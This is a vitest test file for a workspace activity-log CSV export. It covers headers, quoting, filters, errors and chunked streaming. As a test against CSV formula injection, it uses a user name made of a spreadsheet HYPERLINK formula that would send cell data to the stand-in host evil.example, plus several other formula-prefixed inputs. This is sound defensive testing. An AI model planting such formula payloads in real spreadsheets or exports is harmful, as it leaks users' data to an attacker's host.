import { beforeAll, describe, expect, it } from "vitest";
import { activityCsvStream, CSV_CHUNK, CSV_COLUMNS } from "../../worker/features/activity/activity-csv-stream";
import { errorOf, signUp } from "../helpers/api";
import { createWorkspace } from "../helpers/workspaces";
import { database, feedPath, logActivity, parseCsv } from "./activity-helpers";

type Person = Awaited<ReturnType<typeof signUp>>;

const HEADER = "created_at,type,description,user_name,user_email,entity_type,entity_id,ip_address\r\n";
const EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

async function exportCsv(person: Person, workspaceId: string, query: Record<string, string> = {}) {
  const res = await person.client.fetch(feedPath(workspaceId, query, "/export"));
  expect(res.status).toBe(200);
  return { res, text: await res.text() };
}

describe("exporting the activity log as CSV", () => {
  let owner: Person;
  let workspace: { id: string; slug: string };

  beforeAll(async () => {
    // The name people sign up with is theirs to choose, and the log quotes it at the start of a description.
    owner = await signUp({ name: EVIL_NAME });
    workspace = await createWorkspace(owner.client, "Formula Co");
  });

  it("downloads a named CSV file that no cache keeps", async () => {
    const { res, text } = await exportCsv(owner, workspace.id);
    expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("Content-Disposition")).toMatch(
      new RegExp(`^attachment; filename="activity-${workspace.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    expect(res.headers.get("Content-Disposition")).toContain(new Date().toISOString().slice(0, 4));
    expect(res.headers.get("Cache-Control")).toBe("no-store");
    expect(text.startsWith(HEADER)).toBe(true);
    expect(parseCsv(text)[0]).toEqual([...CSV_COLUMNS]);
  });

  it("turns formulas into text and quotes by RFC 4180", async () => {
    await logActivity(workspace.id, [
      { userId: owner.user.id, type: "note.added", description: "+1 for the new logo" },
      { userId: owner.user.id, type: "note.added", description: "-2 refunds, @channel" },
      { userId: owner.user.id, type: "note.added", description: "@SUM(A1:A9)" },
      { userId: owner.user.id, type: "note.added", description: "\t=1+1" },
      { userId: owner.user.id, type: "note.added", description: "\r=1+1" },
      { userId: owner.user.id, type: "note.added", description: 'She said "hi", then\nleft' },
      { userId: owner.user.id, type: "note.added", description: "a = b is fine mid-cell", ipAddress: "203.0.113.9" },
    ]);
    const { text } = await exportCsv(owner, workspace.id);
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(records.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    expect(records.map((r) => r[2])).toEqual([
      "a = b is fine mid-cell",
      'She said "hi", then\nleft',
      "'\r=1+1",
      "'\t=1+1",
      "'@SUM(A1:A9)",
      "'-2 refunds, @channel",
      "'+1 for the new logo",
      `'${EVIL_NAME} created the workspace Formula Co`,
    ]);
    const created = records.at(-1)!;
    expect(created).toEqual([
      expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.000Z$/),
      "workspace.created",
      `'${EVIL_NAME} created the workspace Formula Co`,
      `'${EVIL_NAME}`,
      owner.email,
      "workspace",
      workspace.id,
      "",
    ]);
    expect(records[0]?.[7]).toBe("203.0.113.9");
    // The raw text: the quote doubled inside a quoted cell, nothing a spreadsheet would evaluate.
    expect(text).toContain(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"") created the workspace Formula Co"`,
    );
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("exports only what the filter matches", async () => {
    const { text } = await exportCsv(owner, workspace.id, { type: "workspace." });
    expect(parseCsv(text).map((r) => r[1])).toEqual(["type", "workspace.created"]);
    const none = await exportCsv(owner, workspace.id, {
      entity_type: "workspace",
      entity_id: "01900000-0000-7000-8000-000000000000",
    });
    expect(none.text).toBe(HEADER);
  });

  it("refuses a bad filter with the JSON error, before any CSV is sent", async () => {
    const res = await owner.client.fetch(feedPath(workspace.id, { from: "2024-03-01", to: "2024-01-01" }, "/export"));
    expect(res.status).toBe(422);
    expect(res.headers.get("Content-Type")).toMatch(/application\/json/);
    expect((await errorOf(res)).details).toEqual([expect.objectContaining({ path: "to" })]);
  });

  it("streams every entry of a long log exactly once, one chunk per query", async () => {
    const big = await createWorkspace(owner.client, "Busy Co");
    const count = 2 * CSV_CHUNK + 234;
    await logActivity(
      big.id,
      Array.from({ length: count }, (_, i) => ({
        userId: owner.user.id,
        type: "bulk.entry",
        description: `entry ${String(i).padStart(4, "0")}`,
      })),
    );
    const { text } = await exportCsv(owner, big.id, { type: "bulk." });
    const descriptions = parseCsv(text)
      .slice(1)
      .map((r) => r[2]);
    expect(descriptions).toHaveLength(count);
    expect(descriptions).toEqual(
      Array.from({ length: count }, (_, i) => `entry ${String(count - 1 - i).padStart(4, "0")}`),
    );

    // Read the stream itself: each chunk is one query of at most CSV_CHUNK rows, the first led by the header.
    const reader = activityCsvStream(database(), big.id, { type: "bulk." }).getReader();
    const decoder = new TextDecoder();
    const chunks: number[] = [];
    for (let read = await reader.read(); !read.done; read = await reader.read()) {
      chunks.push(parseCsv(decoder.decode(read.value)).length);
    }
    expect(chunks).toEqual([CSV_CHUNK + 1, CSV_CHUNK, 234]);
  });
});
